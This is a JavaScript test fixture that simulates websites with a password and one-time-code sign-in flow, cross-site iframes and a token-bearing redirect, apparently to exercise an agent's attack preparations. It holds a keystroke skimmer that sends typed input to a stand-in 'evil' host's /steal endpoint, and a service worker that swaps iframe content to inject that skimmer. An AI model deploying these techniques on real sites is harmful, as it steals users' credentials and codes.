// A site with the habits that an agent's preparations make use of: a form that is sent without a
// redirect, a page that brings a script, frames of its own and of another site, a service worker, a
// page that takes its time, and a link with a token on the way.

import { setTimeout as pause } from "node:timers/promises";
import {
  account,
  cookie,
  form,
  literal,
  PASSWORD_FORM,
  page,
  RoomSite,
  random,
  redirect,
} from "./web.mjs";

const script = (body, headers = {}) => ({
  headers: { "content-type": "text/javascript", ...headers },
  body,
});

/** A document of the agent's in the place of a frame's. */
const worker = (answer) => `addEventListener("install", () => skipWaiting());
addEventListener("activate", (e) => e.waitUntil(clients.claim()));
addEventListener("fetch", (e) => {
  if (e.request.destination === "iframe") e.respondWith(new Response(${literal(answer)}, { headers: { "content-type": "text/html" } }));
});`;

export class PreparedSite extends RoomSite {
  begin = "/signin";
  way = ["username", "Tab", "current-password", "Enter", "one-time-code", "Enter"];
  /** In the address of a page on the way, where a link of an e-mail would have it. */
  token = `TOKEN${random()}`;

  /** Tells the agent's listener whatever is typed into `scope`. */
  spy(scope) {
    const steal = literal(`${this.sites.of("evil").origin}/steal?text=`);
    return `${scope}.addEventListener("input", (e) => { new Image().src = ${steal} + encodeURIComponent(e.target.value); }, true)`;
  }

  async answer({ method, path, query, cookies, body }) {
    const user = this.sessions.get(cookies.session);
    switch (path) {
      case "/account":
        return user ? this.welcome(account(user)) : redirect("/signin");
      case "/signin":
        if (method === "POST" && this.knows(body)) return this.#code();
        return page(
          "Sign in",
          `${form(PASSWORD_FORM, { action: "/signin" })}<iframe src=/help></iframe><iframe src="${this.sites.of("framed").origin}/login"></iframe>`,
        );
      case "/otp":
        if (method !== "POST" || !this.knowsCode(body.code)) return this.#code();
        return redirect(`/magic?token=${this.token}`, cookie("session", this.open()));
      case "/magic":
        return redirect("/account");
      case "/otp.js":
        return script("globalThis.honest = true;", { "cache-control": "max-age=3600" });
      case "/worker.js":
        return script(worker(`<script>${this.spy("parent")}</script>`));
      case "/report":
        await pause(Number(query.ms));
        return page("Report", "<p>A long report.</p>");
      default:
        return page("Help", "<p>How to sign in.</p>");
    }
  }

  /** What the form's POST is answered with: no redirect, so a reload sends it again. */
  #code() {
    return page(
      "Code",
      `${form(["code"], { action: "/otp" })}<script src=/otp.js></script>
<script>// As applications do, a form is kept that is in no document any more.
globalThis.kept = document.getElementById("form");</script>`,
    );
  }
}

/** Another site in a frame of that one. */
export class FramedSite extends RoomSite {
  answer({ path }) {
    const spied = `${form(["code"])}<script>${this.sites.of("prepared").spy("window")}</script>`;
    return path === "/worker.js" ? script(worker(spied)) : page("Framed", form(["code"]));
  }
}
